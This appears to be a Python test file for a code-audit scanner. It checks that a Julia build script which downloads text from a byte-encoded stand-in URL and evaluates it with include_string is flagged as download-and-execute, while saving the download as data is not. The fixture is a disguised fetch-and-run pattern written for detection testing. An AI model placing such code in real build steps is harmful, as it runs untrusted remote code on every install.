"""Julia code that downloads into a buffer and evaluates it (``include_string``) runs what it downloads, as a package's
build step (``deps/build.jl``) would at every ``Pkg.build``. Twin: a download of data written to a file."""

from __future__ import annotations

from tests.audit.behavior.helpers import loud

BUILD = """using Downloads

const TABLE = String(UInt8[0x68, 0x74, 0x74, 0x70, 0x73, 0x3a, 0x2f, 0x2f, 0x61, 0x2e, 0x65, 0x78, 0x61, 0x6d, 0x70, 0x6c, 0x65])

function fetch_table()
    buf = IOBuffer()
    Downloads.download(TABLE, buf; timeout = 20)
    return USE
end
"""


def test_downloaded_text_included_as_code_is_an_error():
    code = BUILD.replace("USE", 'Base.include_string(Main, String(take!(buf)), "table.jl")')
    assert ("skillscope/obfuscation/download-exec", 8, "error") in loud({"deps/build.jl": code})


def test_downloaded_data_written_to_a_file_is_quiet():
    code = BUILD.replace("USE", 'write(joinpath(@__DIR__, "table.csv"), take!(buf))')
    assert loud({"deps/build.jl": code}) == []
